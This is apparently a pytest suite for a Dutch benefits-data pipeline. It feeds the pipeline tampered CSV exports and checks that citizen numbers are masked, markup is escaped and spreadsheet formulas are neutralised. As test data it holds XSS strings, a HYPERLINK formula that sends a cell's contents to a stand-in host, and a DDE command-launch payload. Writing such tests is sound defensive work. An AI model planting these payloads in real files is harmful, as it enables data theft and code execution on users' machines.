"""Hostile and broken exports, built from the demo export: no BSN leaks, no markup or formula runs,
no encoding is guessed.

Each export is the shared demo export with a few lines changed the way a careless or malicious
system would: a BSN in a date column, in a header and in the client number; script and formula
text in values and in the organisation's name; an unclosed quote; a Windows-1252 line in a UTF-8
file; old Mac line ends.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import polars as pl
import pytest

from pipelines import cli

NINE_DIGITS = re.compile(r"(?<![0-9])[0-9](?:[ .\-]?[0-9]){8}(?![0-9])")
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
HYPERLINK = '=hyperlink("http://x.example/?d="&A1,"klik")'
CMD = "=cmd|' /c calc'!a0"


def _bsns(export: Path) -> set[str]:
    return set(pl.read_csv(export / "personen.csv", separator=";", infer_schema=False)["bsn"].to_list())


def _digits(text: str) -> set[str]:
    return {re.sub(r"[^0-9]", "", m) for m in NINE_DIGITS.findall(text)}


def _edit(file: Path, change) -> None:
    """Rewrite a semicolon CSV line by line: `change(i, cells)` edits data line i (1-based) in place."""
    lines = file.read_text(encoding="utf-8").split("\n")
    header = lines[0].split(";")
    for i in range(1, len(lines)):
        if lines[i]:
            cells = lines[i].split(";")
            change(i, dict(zip(header, range(len(header)), strict=True)), cells)
            lines[i] = ";".join(cells)
    file.write_text("\n".join(lines), encoding="utf-8")


def _copy(demo_export: Path, target: Path) -> Path:
    shutil.copytree(demo_export, target)
    return target


@pytest.fixture(scope="module")
def hostile(demo_export, tmp_path_factory):
    """The demo export with BSNs, markup and formulas where they do not belong; ingested once."""
    root = tmp_path_factory.mktemp("vijandig")
    export = _copy(demo_export, root / "export")
    bsns = sorted(_bsns(export))
    other = bsns[-1]  # a real BSN of another client, typed where it does not belong

    def personen(i, col, cells):
        cells[col["clientnummer"]] = cells[col["bsn"]]  # a system that fills the client number with the BSN
        if i == 3:
            cells[col["geboortedatum"]] = other
        if i == 4:
            cells[col["geboortedatum"]] = f"{other},00"
        if i == 5:
            cells[col["geboortedatum"]] = f"{other[:3]} {other[3:6]} {other[6:]}"

    _edit(export / "personen.csv", personen)
    text = (export / "personen.csv").read_text(encoding="utf-8").split("\n")
    text = [text[0] + f";{other}"] + [line + ";x" if line else line for line in text[1:]]  # a BSN as header
    (export / "personen.csv").write_text("\n".join(text), encoding="utf-8")

    def uitkeringen(i, col, cells):
        if i == 2:
            cells[col["aanvangsdatum"]] = IMG
        if i == 3:
            cells[col["aanvangsdatum"]] = '"' + HYPERLINK.replace('"', '""') + '"'
        if i == 4:
            cells[col["aanvangsdatum"]] = CMD

    _edit(export / "uitkeringen.csv", uitkeringen)
    clean = root / "schoon"
    code = cli.main(["ingest", "--export", str(export), "--out", str(clean), "--max-afwijzing-pct", "100"])
    assert code == 0
    return export, clean, set(bsns)


def test_no_bsn_in_any_file_of_the_clean_layer_or_its_reports(hostile):
    export, clean, bsns = hostile
    for file in sorted(p for p in clean.rglob("*") if p.is_file()):
        if file.suffix == ".parquet":
            frame = pl.read_parquet(file)
            assert "clientnummer" not in frame.columns, file.name
            text = "\n".join(frame.select(pl.col(pl.String)).write_csv().splitlines())
        else:
            text = file.read_text(encoding="utf-8")
        assert not _digits(text) & bsns, file.name


def test_a_bsn_typed_into_a_date_or_a_header_is_masked_in_every_column(hostile):
    _, clean, _ = hostile
    rejects = pl.read_csv(clean / "validatie" / "afwijzingen.csv", infer_schema=False)
    dates = rejects.filter((pl.col("tabel") == "personen") & (pl.col("kolom") == "geboortedatum"))
    assert dates.height == 3
    assert dates["waarde"].to_list() == ["#########", "#########,00", "#########"]
    assert dates["melding"].str.contains("'#########").all()
    meta = json.loads((clean / "ingest.json").read_text(encoding="utf-8"))
    assert meta["genegeerde_kolommen"]["personen"] == ["#########"]
    assert "extra kolommen #########" in (clean / "validatie" / "index.html").read_text(encoding="utf-8")


def test_markup_in_a_rejected_value_is_escaped_and_formulas_are_neutralised(hostile):
    _, clean, _ = hostile
    page = (clean / "validatie" / "index.html").read_text(encoding="utf-8")
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    text = (clean / "validatie" / "afwijzingen.csv").read_text(encoding="utf-8")
    rejects = pl.read_csv(clean / "validatie" / "afwijzingen.csv", infer_schema=False)
    for column in rejects.columns:
        for value in rejects[column].drop_nulls().to_list():
            assert not value.startswith(("=", "+", "-", "@")), (column, value)
    assert "'" + CMD in text and "'" + HYPERLINK.replace('"', '""') in text


def test_an_unclosed_quote_gives_file_line_and_column_and_not_the_file(demo_export, tmp_path, capsys):
    export = _copy(demo_export, tmp_path / "export")

    def unclosed(i, col, cells):
        if i == 10:
            cells[col["soort"]] = '"' + cells[col["soort"]]

    _edit(export / "voorzieningen.csv", unclosed)
    bsns = _bsns(export)
    for command in (["ingest", "--out", str(tmp_path / "schoon")], ["run", "--kwartaal", "2024Q3"]):
        args = [command[0], "--export", str(export), *command[1:]]
        if command[0] == "run":
            args += ["--out", str(tmp_path / "rapport"), "--clean-root", str(tmp_path / "c")]
        assert cli.main(args) == 2
        err = capsys.readouterr().err
        assert len(err) < 1000, len(err)
        assert "voorzieningen.csv, regel 11, kolom soort" in err
        assert not _digits(err) & bsns and "meedoen" not in err


def test_a_windows_1252_line_in_a_utf8_file_is_refused_not_mojibaked(demo_export, tmp_path, capsys):
    export = _copy(demo_export, tmp_path / "export")
    file = export / "voorzieningen.csv"
    lines = file.read_bytes().split(b"\n")
    assert any("Café".encode() in line for line in lines), "the demo has UTF-8 accents"
    lines[7] = lines[7].rstrip(b"\r") + "Café Noord".encode("cp1252")
    file.write_bytes(b"\n".join(lines))
    assert cli.main(["ingest", "--export", str(export), "--out", str(tmp_path / "schoon")]) == 2
    err = capsys.readouterr().err
    assert "voorzieningen.csv, regel 8" in err and "gemengde codering" in err
    assert not (tmp_path / "schoon").exists()


def test_old_mac_line_ends_are_refused_with_a_dutch_message(demo_export, tmp_path, capsys):
    export = _copy(demo_export, tmp_path / "export")
    file = export / "personen.csv"
    file.write_bytes(file.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    assert cli.main(["ingest", "--export", str(export), "--out", str(tmp_path / "schoon")]) == 2
    assert "alleen op CR" in capsys.readouterr().err


@pytest.mark.slow
def test_a_hostile_organisation_name_never_runs_in_a_page_and_the_audit_passes(demo_export, tmp_path):
    """The quarterly run with the real notebooks on an export whose organisation name is a script."""
    from pipelines.run.quarter import run_quarter

    export = _copy(demo_export, tmp_path / "export")

    def levering(i, col, cells):
        cells[col["organisatie"]] = f"ISD Bollenstreek {SCRIPT}"

    _edit(export / "levering.csv", levering)
    result = run_quarter(export, "2024Q3", out_dir=tmp_path / "rapport", clean_root=tmp_path / "schoon")
    pages = sorted(result.out_dir.rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert SCRIPT not in text and "<script>alert" not in text, page.name
        assert "Content-Security-Policy" in text, page.name
    assert "ISD Bollenstreek &lt;script&gt;alert(1)&lt;/script&gt;" in (
        result.out_dir / "publicatie" / "10_uitstroom.html"
    ).read_text(encoding="utf-8")
    assert result.manifest["onthullingscontrole"]["status"] == "geen onderdrukte cel terug te rekenen"
